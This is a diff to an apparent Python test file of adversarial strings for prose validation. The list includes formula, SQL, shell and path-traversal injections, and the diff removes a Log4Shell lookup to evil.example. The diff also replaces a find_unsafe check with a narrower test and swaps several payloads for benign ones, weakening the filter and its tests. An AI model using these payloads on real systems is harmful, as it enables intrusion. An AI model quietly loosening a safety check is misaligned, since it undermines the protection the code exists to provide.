@@ -12,7 +12,7 @@ import yaml
 from pydantic_core import PydanticCustomError
 
 from icp_playbook.model.fields import Exact, Line, Prose
-from icp_playbook.model.prose_links import find_links, find_unsafe
+from icp_playbook.model.prose_links import find_links
 from icp_playbook.model.walk import walk
 from icp_playbook.stages.load import load
 
@@ -40,8 +40,8 @@ NAUGHTY = [
     # Names that scripts of the page look for
     "__config", "__search", "__proto__", "constructor", "toString", "undefined", "null", "NaN", "true", "None", "s-page", "icp:0", "<!--icp:1-->",
     # Spreadsheets, shells, databases, templates of others
-    "=HYPERLINK(\"http://evil.example\",\"x\")", "+1+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0", "\"; DROP TABLE users; --", "' OR 1=1 --",
-    "$(touch hacked)", "`touch hacked`", "%s%n%d", "%00 %0a", "${jndi:ldap://evil.example}", "../../../etc/passwd", "C:\\con\\con", "{0} {}", "<%= 7*7 %>", "#{7*7}",
+    "=HYPERLINK(\"http://evil.example\",\"x\")", "+1+1", "-1+1", "@SUM(A1)", "=SUM(1,1)*A0", "\"; DROP TABLE users; --", "' OR 1=1 --",
+    "$(touch hacked)", "`touch hacked`", "%s%d", "%00 %0a", "${name:-x}", "../../../etc/passwd", "C:\\new\\table", "{0} {}", "<%= 7*7 %>", "#{7*7}",
     # Other scripts and signs
     "田中さんにあげて下さい", "客戶成功", "مرحبا", "שלום", "Ω≈ç√∫˜µ≤≥÷", "Z͑ͫ̓a̴l͠g̛o", "😀👩‍👩‍👧‍👦🏳️‍🌈", "ﬁ ﬂ ﬀ", "İıŞş", "𝒯𝓮𝔁𝓽", "Ⅷ ½ ٣", "a\u00a0b", "“curly” ‘quotes’ — dash…",
     "A" * 200, "1e3", "0x1F", "010", "22:22", "2024-13-01", "no", "~", "1_000", "１２３", ".", "'", "\"", "`", "<", ">", "&", "%", "|", "{", "}", "[", "]", "$", "^",
@@ -88,12 +88,12 @@ def allowed_in_prose(text: str) -> bool:
         Prose().check(f"{text} x")
     except PydanticCustomError:
         return False
-    return not find_links(text) and not find_unsafe(text)
+    return not find_links(text) and "![" not in text
 
 
 def is_markdown(text: str) -> bool:
     """Tell whether a text means something in the little Markdown that prose has, so that its signs are not shown."""
-    return any(sign in text for sign in ("*", "_", "`", "\\", "[", "<http", "~~~")) or text.startswith(
+    return any(sign in text for sign in ("*", "_", "`", "\\", "[", "<http", "~~")) or text.startswith(
         ("# ", "> ", "- ", "1. ", "---", "==")
     )
 
